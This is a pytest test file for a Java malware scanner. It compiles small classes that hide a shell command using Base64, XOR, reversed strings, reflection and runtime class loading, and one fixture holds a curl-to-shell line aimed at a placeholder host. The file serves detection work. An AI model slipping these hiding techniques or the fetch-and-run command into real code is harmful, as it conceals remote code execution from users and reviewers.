"""Java: class files and sources give the same facts."""

import shutil
import subprocess
from pathlib import Path

import pytest

from tests.code.classes import starts
from tests.code.languages.reading import jar, texts, told

BODY = """package org.acme;
import java.io.*;
import java.net.*;
import java.util.*;
public class Start {
    static {
        try {
            @BODY@
        } catch (Exception problem) {
        }
    }
    @MORE@
}
"""
PATH = "org/acme/Start"


def _source(body, more=""):
    return BODY.replace("@BODY@", body).replace("@MORE@", more)


@pytest.fixture(scope="module")
def compiled(tmp_path_factory):
    if shutil.which("javac") is None:
        pytest.skip("javac is not installed")

    def build(source):
        folder = tmp_path_factory.mktemp("java")
        (folder / "Start.java").write_text(source)
        command = ["javac", "-nowarn", "--release", "11", "-d", str(folder), "Start.java"]
        done = subprocess.run(command, cwd=folder, capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stderr
        return {
            str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*.class")
        }

    return build


CASES = {
    "plain": ('Runtime.getRuntime().exec("sh /tmp/x");', "", "sh /tmp/x"),
    "array": ('new ProcessBuilder(new String[] {"sh", "/tmp/x"}).start();', "", "sh /tmp/x"),
    "list": ('new ProcessBuilder(Arrays.asList("sh", "/tmp/x")).start();', "", "sh /tmp/x"),
    "builder": (
        (
            'StringBuilder b = new StringBuilder("sh ");\n'
            'for (String s : new String[] {"/tmp", "/x"}) { b.append(s); }\n'
            "Runtime.getRuntime().exec(b.toString());"
        ),
        "",
        "sh /tmp/x",
    ),
    "reverse": (
        'Runtime.getRuntime().exec(new StringBuilder("x/pmt/ hs").reverse().toString());',
        "",
        "sh /tmp/x",
    ),
    "base64": (
        'Runtime.getRuntime().exec(new String(Base64.getDecoder().decode("c2ggL3RtcC94")));',
        "",
        "sh /tmp/x",
    ),
    "joined": (
        (
            'String folder = System.getProperty("java.io.tmpdir");\n'
            'Runtime.getRuntime().exec("sh " + folder + "/x");'
        ),
        "",
        "sh /tmp/x",
    ),
    "method": (
        'Runtime.getRuntime().exec(plain("x", 2));',
        'static String plain(String a, int n) { return n > 1 ? "sh /tmp/" + a : "no"; }',
        "sh /tmp/x",
    ),
    "object": (
        'new Start("sh").go("/tmp/x");',
        (
            "private final String a;\nStart(String a) { this.a = a; }\n"
            'void go(String b) throws IOException { Runtime.getRuntime().exec(a + " " + b); }'
        ),
        "sh /tmp/x",
    ),
    "lambda": (
        (
            'new Thread(() -> { try { Runtime.getRuntime().exec("sh /tmp/x"); }'
            " catch (IOException e) { } }).start();"
        ),
        "",
        "sh /tmp/x",
    ),
    "anonymous": (
        (
            "new Timer().schedule(new TimerTask() { public void run() {"
            ' try { Runtime.getRuntime().exec("sh /tmp/x"); } catch (IOException e) { } } }, 5);'
        ),
        "",
        "sh /tmp/x",
    ),
    "xor": (
        (
            "byte[] b = {41, 50, 122, 117, 46, 55, 42, 117, 34};\n"
            "for (int i = 0; i < b.length; i++) { b[i] = (byte) (b[i] ^ 0x5a); }\n"
            "Runtime.getRuntime().exec(new String(b));"
        ),
        "",
        "sh /tmp/x",
    ),
}


@pytest.mark.parametrize("name", CASES)
def test_a_command_is_read_from_a_class_file(name, compiled):
    body, more, wanted = CASES[name]
    found = jar(compiled(_source(body, more)))
    assert wanted in texts(found, "exec/process")
    assert ("exec/process", "import") in told(found)


@pytest.mark.parametrize("name", CASES)
def test_a_command_is_read_from_a_source(name):
    body, more, wanted = CASES[name]
    found = jar({f"{PATH}.java": _source(body, more)})
    assert wanted in texts(found, "exec/process")


def test_a_class_of_any_name_is_read_by_its_first_bytes():
    found = jar({"data/picture.png": starts("sh /tmp/.x")})
    assert "sh /tmp/.x" in texts(found, "exec/process")
    assert {one.location.line for one in found.facts if one.behaviour == "exec/process"} == {7}


def test_reflection_is_followed_and_told(compiled):
    body = (
        'String name = new String(Base64.getDecoder().decode("amF2YS5sYW5nLlJ1bnRpbWU="));\n'
        "Class<?> kind = Class.forName(name);\n"
        'Object it = kind.getMethod("get" + kind.getSimpleName().length()).invoke(null);\n'
        'kind.getMethod(new StringBuilder("cexe").reverse().toString(), String.class)'
        '.invoke(it, "sh /tmp/x");'
    )
    found = jar(compiled(_source(body)))
    assert "sh /tmp/x" in texts(found, "exec/process")
    assert ("obfus/api-hiding", "import") in told(found)


def test_bytes_that_become_a_class_are_a_layer(compiled):
    import base64

    inner = base64.b64encode(starts("sh /tmp/.y", "A")).decode()
    source = (
        "package org.acme;\npublic class Start extends ClassLoader {\n    static {\n"
        f'        byte[] c = java.util.Base64.getDecoder().decode("{inner}");\n'
        '        new Start().defineClass("A", c, 0, c.length);\n    }\n}\n'
    )
    found = jar(compiled(source))
    assert "sh /tmp/.y" in texts(found, "exec/process")
    assert ("obfus/encoded-exec", "import") in told(found)
    assert [layer.location.layer for layer in found.layers] == ["base64/defineClass"]


def test_a_nested_jar_and_another_release_are_read(compiled):
    import io
    import zipfile

    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w") as archive:
        archive.writestr("org/acme/Inner.class", starts("sh /tmp/.z", "org/acme/Inner"))
    found = jar(
        {
            "lib/inner.jar": raw.getvalue(),
            "META-INF/versions/11/org/acme/B.class": starts("sh /tmp/.v", "org/acme/B"),
        }
    )
    assert {"sh /tmp/.z", "sh /tmp/.v"} <= texts(found, "exec/process")


def test_a_member_that_only_is_called_a_class_is_read_as_what_it_is():
    found = jar({"a/B.class": b"#!/bin/sh\ncurl -s https://x.example/a | sh\n"})
    assert not [one for one in found.facts if one.language == "java"]


def test_a_broken_class_that_matters_is_held():
    whole = starts("sh /tmp/.x")
    found = jar({f"{PATH}.class": whole[:-20]})
    assert {one.effect for one in found.limitations} == {"hold"}
    assert Path(found.limitations[0].member).name == "Start.class"


@pytest.mark.parametrize(
    "source",
    [
        b"class A { static { a" + b".b()" * 20_000 + b"; } }",
        b"class A { int x = " + b"(" * 20_000,
        b"class A { " + b"class B { " * 5_000,
        b'class A { static { String s = "a"' + b' + "b"' * 20_000 + b"; } }",
        b"\x00\xff class",
    ],
)
def test_odd_sources_are_bounded(source):
    jar({"org/acme/A.java": source})


@pytest.mark.parametrize(
    ("body", "more"),
    [
        (
            (
                'boolean windows = System.getProperty("os.name").startsWith("W");'
                'String[] all = windows ? new String[] {"cmd", "/c", "x"} : new String[] {"sh", "x.sh"};'
                "Runtime.getRuntime().exec(all);"
            ),
            "",
        ),
        (
            'java.util.stream.Stream.of("sh x.sh").forEach(Start::go);',
            (
                'static void go(String ignored) { try { Runtime.getRuntime().exec("sh x.sh"); }'
                " catch (IOException problem) { } }"
            ),
        ),
        (
            (
                'Properties all = new Properties(); all.load(new StringReader("a = sh x.sh\\n"));'
                'Runtime.getRuntime().exec(all.getProperty("a"));'
            ),
            "",
        ),
        (
            (
                "go(57, 50, 122, 34, 116, 41, 50); go(41, 50, 122, 34); go(41, 50, 122, 35);"
                "go(41, 50, 122, 34, 116, 41, 50, 122, 122);"
            ),
            (
                "static void go(int... all) throws IOException { char[] out = new char[all.length];"
                "for (int at = 0; at < all.length; at++) { out[at] = (char) (all[at] ^ 90); }"
                "Runtime.getRuntime().exec(new String(out).trim()); }"
            ),
        ),
    ],
    ids=["either branch", "stream", "properties", "numbers"],
)
def test_a_command_is_followed_to_where_it_runs(body, more, compiled):
    found = jar(compiled(_source(body, more)))
    assert "sh x.sh" in texts(found, "exec/process")
    assert ("exec/process", "import") in told(found)
